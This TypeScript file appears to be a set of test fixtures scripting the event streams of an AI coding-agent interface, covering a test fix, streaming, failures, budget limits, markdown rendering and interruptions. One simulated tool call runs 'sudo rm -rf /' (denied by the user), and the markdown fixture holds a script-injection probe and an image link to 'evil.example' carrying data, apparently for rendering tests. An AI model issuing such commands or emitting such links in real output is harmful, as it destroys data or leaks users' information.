import { addCall, addUsage, createScript, ROOT, type Script } from './script';
import { call, DIFF, say, start } from './steps';

export function finishedRun(): Script {
  const script = createScript();
  script.add('user_message', {
    text: 'The test of the till fails. Find out why and fix it.',
    attachments: [
      { kind: 'file', path: `${ROOT}/test/till.test.ts` },
      { kind: 'selection', path: `${ROOT}/src/till.ts`, from: 11, to: 14, text: '' },
      { kind: 'problems' },
    ],
    content: [],
  });
  script.add('turn_started', { turn: 1, model: 'claude-opus-5' });
  script.add('assistant_message', {
    turn: 1,
    blocks: [
      { type: 'thinking', thinking: 'I should run the test first to see how it fails, then read `src/till.ts`.', signature: 'x' },
      { type: 'text', text: "I'll run the tests first, then look at the code they cover." },
      { type: 'tool_use', id: 'c1', name: 'shell', input: { command: 'npm test' } },
      { type: 'tool_use', id: 'c2', name: 'read_file', input: { path: 'src/till.ts' } },
      { type: 'tool_use', id: 'c3', name: 'grep', input: { pattern: 'total\\(' } },
    ],
    stop: 'tool_use',
    partial: false,
    model: 'claude-opus-5',
  });
  addUsage(script);
  addCall(script, {
    callId: 'c1',
    tool: 'shell',
    title: 'Run',
    detail: 'npm test',
    class: 'mutating',
    finished: {
      outcome: 'error',
      summary: 'Exit code 1',
      ms: 6200,
      output: [{ type: 'text', text: '\u001b[31m✗ adds up three prices\u001b[0m\n  expected 7.5 to equal 12\n\n1 failing, 4 passing' }],
      display: { kind: 'shell', command: 'npm test', exitCode: 1 },
    },
  });
  addCall(script, {
    callId: 'c2',
    tool: 'read_file',
    title: 'Read',
    detail: `${ROOT}/src/till.ts`,
    finished: {
      summary: '48 lines',
      display: { kind: 'file', path: `${ROOT}/src/till.ts` },
      output: [{ type: 'text', text: '1\timport …' }],
    },
  });
  addCall(script, {
    callId: 'c3',
    tool: 'grep',
    title: 'Search',
    detail: 'total\\(',
    finished: {
      summary: '3 matches in 2 files',
      display: {
        kind: 'places',
        total: 3,
        places: [
          { path: `${ROOT}/src/till.ts`, line: 11, text: 'export function total(prices: readonly number[]): number {' },
          { path: `${ROOT}/test/till.test.ts`, line: 6, text: '  assert.equal(total([4.5, 3, 4.5]), 12);' },
          { path: `${ROOT}/test/till.test.ts`, line: 10, text: '  assert.equal(total([]), 0);' },
        ],
      },
    },
  });
  call(
    script,
    2,
    [{ id: 'c4', name: 'edit_file', input: { path: 'src/till.ts' } }],
    'The sum starts at the second price: `slice(1)` drops the first one.',
  );
  addUsage(script, { cacheRead: 14_000 });
  script.add('permission_decided', {
    decision: {
      callId: 'c4',
      tool: 'edit_file',
      inputHash: 'h',
      class: 'mutating',
      verdict: 'allow',
      by: { kind: 'user', choice: 'once' },
      handler: 'interactive',
      reason: 'you allowed it once',
    },
  });
  script.add('tool_started', { callId: 'c4', tool: 'edit_file', title: 'Edit', detail: `${ROOT}/src/till.ts`, class: 'mutating' });
  script.add('change_proposed', { callId: 'c4', diff: DIFF });
  script.add('tool_finished', { callId: 'c4', tool: 'edit_file', outcome: 'ok', output: [], summary: '+2 -1', ms: 120 });
  script.add('diagnostics', {
    callId: 'c4',
    fresh: true,
    added: [
      {
        path: `${ROOT}/src/till.ts`,
        line: 13,
        column: 10,
        severity: 'error',
        message: "Type 'number | undefined' is not assignable to type 'number'.",
        code: '2322',
        source: 'ts',
        fix: 'Add a non-null assertion',
      },
    ],
    fixed: 1,
    text: '',
  });
  script.add('tasks_changed', {
    tasks: [
      { id: '1', title: 'Run the tests', status: 'completed', blockedBy: [] },
      { id: '2', title: 'Fix the sum in src/till.ts', status: 'in_progress', blockedBy: [] },
      { id: '3', title: 'Run the tests again', status: 'pending', blockedBy: ['2'] },
    ],
  });
  say(script, 3, 'Fixed. `total` dropped the first price; now it adds up **all** of them, and the five tests pass.');
  addUsage(script, { cacheRead: 15_100 });
  script.add('change_reviewed', { path: `${ROOT}/src/till.ts`, decision: 'kept', hunks: 1, left: 1 });
  script.add('run_ended', { reason: 'done', detail: '', retryable: false });
  script.add('state_changed', { workflow: { at: 'ended', reason: 'done' } });
  return script;
}

export function streaming(): Script {
  const script = start('Explain how this project is built.');
  script.add('delta', {
    of: 'thinking',
    of_id: '1.1.0',
    text: 'Let me look at the entry point and at the tests before I answer.',
    turn: 1,
  });
  script.add('delta', {
    of: 'text',
    of_id: '1.1.1',
    text: 'The project is a small **till**. Its parts:\n\n- `src/till.ts` adds up prices\n- `src/receipt.ts` prints them\n\nIt starts here:\n\n```ts\nexport function main(): void {\n  const till = new Till(',
    turn: 1,
  });
  script.add('delta', { of: 'tool_input', of_id: 'c9', tool: 'read_file', text: '{"path":"src/re', turn: 1 });
  script.add('message_queued', { queueId: 'q1', text: 'And tell me which file to read first.', attachments: [], content: [] });
  return script;
}

export function failures(): Script {
  const script = start('Update the dependencies.');
  call(script, 1, [
    { id: 'c1', name: 'edit_file', input: { path: 'package.json', edits: [{ old_text: 'a', new_text: 'b' }] } },
    { id: 'c2', name: 'shell', input: { command: 'sudo rm -rf /' } },
    { id: 'c3', name: 'mcp__github__list_issues', input: { repo: 'till' } },
    { id: 'c4', name: 'shell', input: { command: 'npm run watch' } },
  ]);
  addCall(script, {
    callId: 'c1',
    tool: 'edit_file',
    title: 'Edit',
    detail: `${ROOT}/package.json`,
    class: 'mutating',
    finished: {
      outcome: 'error',
      summary: 'Text not found',
      output: [{ type: 'text', text: 'The text to replace is not in package.json.\nThe nearest line is 14: "diff": "9.0.0".' }],
    },
  });
  script.add('permission_decided', {
    decision: {
      callId: 'c2',
      tool: 'shell',
      inputHash: 'h',
      class: 'destructive',
      verdict: 'deny',
      by: { kind: 'user', choice: 'deny' },
      handler: 'interactive',
      reason: 'you denied it',
      feedback: 'Never touch the root.',
    },
  });
  script.add('tool_finished', { callId: 'c2', tool: 'shell', outcome: 'denied', output: [], summary: 'Denied', ms: 0 });
  addCall(script, {
    callId: 'c3',
    tool: 'mcp__github__list_issues',
    title: '',
    detail: '',
    finished: { summary: '2 issues', output: [{ type: 'text', text: '#1 Till opens by itself\n#2 Receipt is blank' }] },
  });
  script.add('tool_finished', { callId: 'c4', tool: 'shell', outcome: 'unknown', output: [], summary: '', ms: 0 });
  script.add('notice', { of: 'file_changed', text: 'package.json changed on disk since you read it.' });
  script.add('context_changed', { kind: 'compacted', detail: '84 messages became a summary of 1,900 tokens.' });
  script.add('compaction_started', { by: 'limit', before: 182_000 });
  script.add('context_compacted', {
    by: 'limit',
    summary: 'The user wants the dependencies updated. **Done:** typescript.',
    keptFrom: 9,
    restored: [],
    files: {},
    before: 182_000,
    after: 14_300,
    dropThinking: true,
  });
  script.add('context_evicted', { by: 'idle', callIds: ['c1', 'c3'], tokens: 8200 });
  script.add('breaker_tripped', {
    breaker: 'repeated_call',
    detail: 'The same call came 5 times in a row with the same result: edit_file.',
    next: 'Tell it what to do differently, or continue.',
  });
  script.add('run_ended', {
    reason: 'failed',
    detail: 'The service refused the API key.',
    next: 'Set a key that is valid, then continue.',
    retryable: true,
    error: 'auth',
  });
  script.add('state_changed', { workflow: { at: 'ended', reason: 'failed' } });
  return script;
}

/** A run that has spent what it may. */
export function limited(): Script {
  const script = start('Go through all files and add comments.');
  call(script, 1, [{ id: 'c1', name: 'read_file', input: { path: 'src/till.ts' } }]);
  addUsage(script, { cacheRead: 0 });
  addCall(script, {
    callId: 'c1',
    tool: 'read_file',
    title: 'Read',
    detail: `${ROOT}/src/till.ts`,
    finished: { summary: '48 lines', output: [{ type: 'text', text: '1\timport …' }] },
  });
  script.add('usage', { of: 'retry', model: 'claude-opus-5', input: 0, output: 1, cacheRead: 11_000, cacheWrite: 200, cost: 0.0068 });
  script.add('usage', { of: 'side', model: 'claude-haiku-4-5', input: 900, output: 1200, cacheRead: 0, cacheWrite: 0, cost: 0.0069 });
  script.add('usage', {
    of: 'turn',
    model: 'my-own-model-with-a-very-long-name-70b',
    input: 3200,
    output: 600,
    cacheRead: 0,
    cacheWrite: 0,
    cost: null,
    doubt: 'The service counted 1,000,000,000,000 tokens for a prompt of about 3,200. Plumb counts 3,800 in all.',
  });
  script.add('run_ended', {
    reason: 'max_budget',
    detail:
      'Stopped before the next request: $0.4812 spent, and it would take at least $0.0312 more, over the limit of $0.50 for this session.',
    next: 'Raise the limit and go on (plumb.maxCost, --max-cost), or end here.',
    retryable: true,
    limit: { name: 'maxCost', limit: 0.5, used: 0.4812, next: 0.0312 },
  });
  script.add('state_changed', { workflow: { at: 'ended', reason: 'max_budget' } });
  return script;
}

export function markdown(): Script {
  const script = start('How does the till work?');
  say(
    script,
    1,
    [
      '## How the till works',
      'It reads `prices.json`, adds them up and prints a **receipt**. See [the source](src/till.ts#L11) or [the manual](https://example.com/manual).',
      '1. Read the prices\n2. Add them up\n   - skipping *free* items\n   - rounding to cents\n3. Print',
      '- [x] sums\n- [ ] discounts',
      '| Part | File | Lines |\n|:--|:--|--:|\n| Sum | `src/till.ts` | 48 |\n| Receipt | `src/receipt.ts` | 112 |',
      '```ts\n// Adds up all prices.\nexport function total(prices: readonly number[]): number {\n  const label = "sum of prices";\n  return prices.reduce((sum, price) => sum + price, 0); // and a comment that is long enough to need scrolling\n}\n```',
      '```bash\nnpm test -- --grep "till"\n```',
      '> A quoted remark that goes on for a while, so that it wraps in a narrow panel.',
      '<script>alert(1)</script> ![chart](https://evil.example/x.png?data=1)',
      '---',
      'Done.',
    ].join('\n\n'),
  );
  script.add('run_ended', { reason: 'done', detail: '', retryable: false });
  return script;
}

export function interrupted(): Script {
  const script = start('Fix the failing test.');
  const [command, edit] = [{ command: 'npm run migrate' }, { path: 'src/till.ts', edits: [] }];
  call(script, 1, [
    { id: 'c1', name: 'shell', input: command },
    { id: 'c2', name: 'edit_file', input: edit },
  ]);
  script.add('tool_started', { callId: 'c1', tool: 'shell', title: 'Run', detail: 'npm run migrate', class: 'mutating' });
  script.add('tool_started', { callId: 'c2', tool: 'edit_file', title: 'Edit', detail: 'src/till.ts', class: 'mutating' });
  script.add('tool_finished', {
    callId: 'c1',
    tool: 'shell',
    outcome: 'unknown',
    output: [],
    summary: 'Interrupted: outcome unknown',
    ms: 0,
  });
  script.add('tool_finished', {
    callId: 'c2',
    tool: 'edit_file',
    outcome: 'unknown',
    output: [],
    summary: 'Interrupted: outcome unknown',
    ms: 0,
  });
  script.add('state_changed', { workflow: { at: 'interrupted', unknown: ['c1', 'c2'] } });
  script.add('run_ended', {
    reason: 'failed',
    error: 'interrupted',
    detail: 'Plumb was stopped while a tool ran; the last call was edit_file. Whether what was cut off took effect is not known.',
    next: 'Look whether it did, and say so, or continue without knowing.',
    retryable: true,
    unknown: [
      { callId: 'c1', tool: 'shell', known: 'It left no note of its end: it was stopped in the middle, or still runs.' },
      { callId: 'c2', tool: 'edit_file', known: 'src/till.ts is neither as it was before nor as the call was to leave it.' },
    ],
  });
  return script;
}
